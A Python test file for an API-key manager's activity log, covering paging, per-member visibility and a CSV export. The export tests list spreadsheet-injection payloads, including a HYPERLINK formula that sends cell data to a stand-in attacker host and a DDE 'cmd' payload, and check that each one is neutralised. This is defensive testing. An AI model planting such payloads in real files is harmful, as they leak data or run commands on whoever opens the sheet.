"""What happened, in words and as a table for spreadsheets."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, get_args
from zoneinfo import ZoneInfo

import pytest
from pydantic import SecretStr

from mohet_keys import activity
from mohet_keys.activity import ACTIONS, RESULTS, Record, table
from mohet_keys.errors import DeniedError, NotFoundError
from mohet_keys.journal import UNREADABLE, Journal, Wanted
from mohet_keys.model import LOCAL_OWNER, Action, Activity, Doing, NewKey, Outcome, Verdict
from mohet_keys.spreadsheet import LONGEST, cell, harmless
from mohet_keys.ui.verdict_badge import BADGES
from mohet_keys.wiring import Parts
from tests.leaks import canary, scan
from tests.masters import bare_store
from tests.team import ADA, BOB, ROOT, join

NOW = datetime(2026, 11, 19, 23, 5, 7, tzinfo=UTC)
TOKYO = ZoneInfo("Asia/Tokyo")
MINE = Wanted(owner=LOCAL_OWNER)


def entry(**more: str) -> Activity:
    """Something that happened."""
    known = Activity(
        *(1, NOW, LOCAL_OWNER, LOCAL_OWNER, "check", "k1", "Production", "groq", "api.groq.com"),
        *("valid", "key works", "r1", "m1"),
    )
    return replace(known, **more)  # type: ignore[arg-type]


@pytest.fixture
def journal(tmp_path: Path) -> Iterator[Journal]:
    """An empty record."""
    repository = bare_store(tmp_path)
    yield repository.journal
    repository.close()


def noted(name: str, **more: str) -> Doing:
    """Something that was done."""
    told = {"provider": "groq", "host": "api.groq.com", "result": "valid", **more}
    return Doing("check", LOCAL_OWNER, LOCAL_OWNER, NOW, key_id="k1", key_name=name, **told)


def note(journal: Journal, name: str = "Production", **more: str) -> int:
    """Put something on record."""
    return journal.begin(noted(name, **more))


def rows(content: bytes) -> list[list[str]]:
    """What a spreadsheet reads."""
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


# --- words ------------------------------------------------------------------------------------


def test_every_action_and_every_end_has_words_of_its_own() -> None:
    """Whatever can be recorded can be read, and no two things read alike."""
    assert set(ACTIONS) == set(get_args(Action))
    assert set(RESULTS) == {*Verdict, *get_args(Outcome), "done", ""}
    for words in (ACTIONS, RESULTS):
        assert len(set(words.values())) == len(words)


def test_a_verdict_reads_as_on_its_badge() -> None:
    """The record and the badge use the same words."""
    for verdict, (words, *_) in BADGES.items():
        assert activity.result_words(entry(result=verdict)) == words


def test_words_nobody_knows_are_shown_as_they_are() -> None:
    """An action of a later version, or one that was altered, is still to be seen."""
    odd = entry(action="levitate\n", result="\x1b[2J", provider="nobody\t")
    assert activity.action_words(odd) == "levitate\\n"
    assert activity.result_words(odd) == "\\x1b[2J"
    assert activity.provider_words(odd) == "nobody\\t"


def test_an_entry_that_cannot_be_read_says_so() -> None:
    """It has neither time nor result, and never that of another."""
    lost = entry(action=UNREADABLE, result="")
    assert activity.action_words(lost) == "Cannot be read"
    assert (activity.moment(lost, TOKYO), activity.result_words(lost)) == (None, "")


def test_a_text_is_harmless_and_short() -> None:
    """Nothing hides in it, and one text does not push away all the others."""
    assert harmless("a\u202eb\r\n\x00") == "a\\u202eb\\r\\n\\x00"
    assert len(harmless("x" * 100_000)) == LONGEST
    assert len(harmless("\x1b" * 100_000)) == LONGEST
    assert harmless("é" * LONGEST) == "é" * LONGEST


def test_a_period_begins_so_long_ago() -> None:
    """24 hours, 7 and 30 days before now; all of it has no beginning."""
    begins = {period: activity.since(period, NOW) for period in activity.PERIODS}
    assert begins == {
        "24 h": NOW - timedelta(hours=24),
        "7 d": NOW - timedelta(days=7),
        "30 d": NOW - timedelta(days=30),
        "All": None,
    }


# --- pages ------------------------------------------------------------------------------------


def test_pages_meet_without_a_gap(journal: Journal) -> None:
    """Each entry is on one page, and the last page knows that it is."""
    for _ in range(6):
        note(journal)
    first = activity.page(journal, MINE, size=3)
    second = activity.page(journal, MINE, before=first.entries[-1].id, size=3)
    assert [e.id for e in first.entries + second.entries] == [6, 5, 4, 3, 2, 1]
    assert (first.is_last, second.is_last) == (False, True)


def test_a_key_that_is_gone_still_has_its_story(parts: Parts) -> None:
    """By its id what happened to it is found; of a key that never was, nothing is, nor of one that
    is somebody else's."""
    join(parts.repository, ADA)
    note(parts.repository.journal)
    record = Record(parts.repository)
    found = record.of_key("k1", owner=LOCAL_OWNER)
    assert len(record.page(found, owner=LOCAL_OWNER).entries) == 1
    for key_id, owner in (("k2", LOCAL_OWNER), ("k1", ADA), ("k2", ADA), ("", ADA)):
        with pytest.raises(NotFoundError):
            record.of_key(key_id, owner=owner)


# --- whose doings -----------------------------------------------------------------------------


@pytest.fixture
def record(parts: Parts) -> Record:
    """What happened in a team: Ada's key is added, used by Bob, and denied to him; Root signed in,
    somebody unknown was denied, and a local run had a key of its own."""
    join(parts.repository, ADA, BOB)
    join(parts.repository, ROOT, administrator=True)
    for actor, owner, action, key_id in TEAMS_DOINGS:
        told = {"key_id": key_id, "key_name": action, "provider": "groq"}
        parts.repository.journal.begin(Doing(action, actor, owner, NOW, **told))  # type: ignore[arg-type]
    return Record(parts.repository)


TEAMS_DOINGS = [
    (ADA, ADA, "add", "k1"),
    (BOB, ADA, "chat", "k1"),
    (BOB, ADA, "denied", "k1"),
    (ROOT, ROOT, "sign_in", None),
    ("nobody", "nobody", "denied", None),
    (BOB, BOB, "add", "k2"),
    (LOCAL_OWNER, LOCAL_OWNER, "add", "k3"),
]


def seen_by(record: Record, person: str, /, **wanted: str) -> list[tuple[str, str]]:
    """Who did what, of all that somebody sees of a team's doings, the first of it first."""
    found = record.page(Wanted(since=NOW - timedelta(hours=1), **wanted), owner=person).entries
    told = [(each.actor, each.action) for each in reversed(found)]
    return [each for each in told if each != (ROOT, "role")]


def test_members_see_their_own_doings_and_what_was_done_with_their_keys(record: Record) -> None:
    """Ada sees who used her key and who tried to change it; Bob sees nothing of hers but that."""
    assert seen_by(record, ADA) == [(ADA, "add"), (BOB, "chat"), (BOB, "denied")]
    assert seen_by(record, BOB) == [(BOB, "chat"), (BOB, "denied"), (BOB, "add")]


def test_administrators_see_everybodys(record: Record) -> None:
    """With sign-ins and refusals, also of somebody unknown."""
    assert seen_by(record, ROOT) == [(actor, action) for actor, _, action, _ in TEAMS_DOINGS]
    assert seen_by(record, ROOT, involving=BOB) == seen_by(record, BOB)


def test_a_local_run_sees_its_own(record: Record) -> None:
    """What people of a team did is nothing to it."""
    assert seen_by(record, LOCAL_OWNER) == [(LOCAL_OWNER, "add")]


@pytest.mark.parametrize("asked", [{"owner": ADA}, {"involving": ADA}, {"key_id": "k1"}])
def test_what_is_wanted_widens_nothing(record: Record, asked: dict[str, str]) -> None:
    """Whatever a page asks for, a member gets no more than their own."""
    assert set(seen_by(record, BOB, **asked)) <= set(seen_by(record, BOB))
    assert ("nobody", "denied") not in seen_by(record, BOB, **asked)


def test_who_may_not_ask_sees_nothing(record: Record, parts: Parts) -> None:
    """A disabled person gets neither page nor table."""
    parts.repository.people.disable(BOB)
    for ask in (
        lambda: record.page(Wanted(), owner=BOB),
        lambda: record.table(Wanted(), TOKYO, owner=BOB),
        lambda: record.of_key("k2", owner=BOB),
    ):
        with pytest.raises(DeniedError):
            ask()
    assert record.table(Wanted(), TOKYO, owner=ADA).rows == 3


def test_ones_own_doings_are_found_among_very_many(parts: Parts) -> None:
    """A member's page takes no more work among 5,000 doings of others than among 50: both ways
    that lead to a person are read in the order of their index."""
    join(parts.repository, ADA)
    few, many = (_effort_among(parts, others) for others in (50, 5_000))
    assert few >= 1
    assert many <= few * 1.2 + 1


def _effort_among(parts: Parts, others: int) -> int:
    """How many hundreds of steps of SQLite's machine a page of Ada's takes; no clock, no chance."""
    journal, record = parts.repository.journal, Record(parts.repository)
    journal.begin_all([Doing("add", BOB, BOB, NOW) for _ in range(others)])
    mine = [Doing("chat", actor, owner, NOW) for actor, owner in ((ADA, BOB), (BOB, ADA))]
    journal.begin_all(mine * 60)
    steps = [0]

    def count() -> None:
        steps[0] += 1

    with parts.repository._database.reading() as connection:
        driver: Any = connection.connection.driver_connection
        driver.set_progress_handler(count, 100)
    assert len(record.page(Wanted(), owner=ADA).entries) == activity.PAGE
    driver.set_progress_handler(None, 0)
    return steps[0]


# --- the table --------------------------------------------------------------------------------


def test_the_table_has_what_happened_in_both_times(journal: Journal) -> None:
    """Who, what, which, where and how it ended, in UTC and in the reader's own time."""
    note(journal, "Zoë, “main”")
    head, row = rows(table(journal, MINE, TOKYO).content)
    told = dict(zip(head, row, strict=True))
    assert told["Time (UTC)"] == "2026-11-19 23:05:07"
    assert told["Time (Asia/Tokyo)"] == "2026-11-20 08:05:07"
    assert (told["Who"], told["Action"], told["Key"]) == ("local", "Checked", "Zoë, “main”")
    assert (told["Provider"], told["Host"], told["Result"]) == ("Groq", "api.groq.com", "Valid")


FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0 \u3000=1+1",
    "\u200d=1+1",
    "＝1+1",
    "＠SUM(A1)",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_t40_no_cell_is_a_formula(journal: Journal, text: str) -> None:
    """A text that a spreadsheet would work out begins with an apostrophe, wherever it stands."""
    note(journal, text, host=text, detail=text, result=text, provider=text, request_id=text)
    head, row = rows(table(journal, MINE, TOKYO).content)
    told = dict(zip(head, row, strict=True))
    for column in ("Key", "Host", "Detail", "Result", "Provider", "Request id"):
        assert told[column].startswith("'"), column
        assert told[column].isprintable() or set("\u00a0\u3000\u200d") & set(told[column])


@pytest.mark.parametrize("text", FORMULAS)
def test_without_the_apostrophe_it_would_be_one(text: str) -> None:
    """The twin: as it is, the text begins as a formula does."""
    assert text.strip("\u200d \t\r\n\u00a0\u3000")[0] in "=+-@＝＠"


def test_t40_the_cell_of_another_country_is_none_either() -> None:
    """Where a semicolon parts cells, what stands behind one begins a cell."""
    assert cell("x;=1+1; @A1") == "x;'=1+1;' @A1"


@pytest.mark.parametrize("text", ["Production", "a-b", "1 + 1", "x=y", "ada@example.com", "", "'"])
def test_an_ordinary_text_is_left_alone(text: str) -> None:
    """Only what begins like a formula gets an apostrophe."""
    assert cell(text) == text


def test_t40_an_entry_is_one_line(journal: Journal) -> None:
    """Line breaks, quotes and control characters neither add a line nor a cell."""
    note(journal, 'a"b,c\r\nd\u2028e\x1b[2J\x00f')
    content = table(journal, MINE, TOKYO).content
    head, row = rows(content)
    assert len(row) == len(head)
    assert row[head.index("Key")] == 'a"b,c\\r\\nd\\u2028e\\x1b[2Jf'
    assert content.count(b"\n") == 2


def test_a_long_record_is_cut_and_says_so(journal: Journal) -> None:
    """The latest are there, and the last line says that older ones are not."""
    for number in range(5):
        note(journal, f"Key {number}")
    cut = table(journal, MINE, TOKYO, most=3)
    assert (cut.rows, cut.is_cut) == (3, True)
    _, *found, last = rows(cut.content)
    assert [row[4] for row in found] == ["Key 4", "Key 3", "Key 2"]
    assert last == ["Only the latest 3 entries are here; older ones were left out."]
    whole = table(journal, MINE, TOKYO, most=5)
    assert (whole.rows, whole.is_cut, len(rows(whole.content))) == (5, False, 6)


def test_a_large_record_is_cut_too(journal: Journal) -> None:
    """However long the texts are, the file stays within its size and a part."""
    journal.begin_all([noted("x" * 60)] * 1001)
    cut = table(journal, MINE, TOKYO, largest=10_000)
    assert (cut.rows, cut.is_cut) == (1000, True)
    assert not table(journal, MINE, TOKYO, largest=1_000_000).is_cut


def test_the_table_is_one_persons_own(journal: Journal) -> None:
    """What happened to others' keys is not in it."""
    note(journal)
    assert table(journal, Wanted(owner="ada"), TOKYO).rows == 0


def test_t40_no_secret_and_nothing_sealed_is_in_the_table(parts: Parts) -> None:
    """After a key's whole life the table has neither its secret nor what it was sealed to."""
    secret = canary("gsk_")
    new = NewKey(provider="groq", name="Canary", secret=SecretStr(secret))
    saved = parts.keys.add(new, owner=LOCAL_OWNER).entry
    sealed = parts.repository.sealed(saved.id, LOCAL_OWNER).blob
    opened = parts.keys.open(saved.id, owner=LOCAL_OWNER, why="check")
    parts.keys.finish(opened.use, "invalid", detail="wrong key")
    parts.keys.remove(saved.id, owner=LOCAL_OWNER)
    made = table(parts.repository.journal, MINE, TOKYO)
    assert made.rows == 3
    assert scan(secret, {"table": made.content, "repr": repr(made).encode()}) == []
    assert sealed.hex().encode() not in made.content
    assert secret not in repr(made)
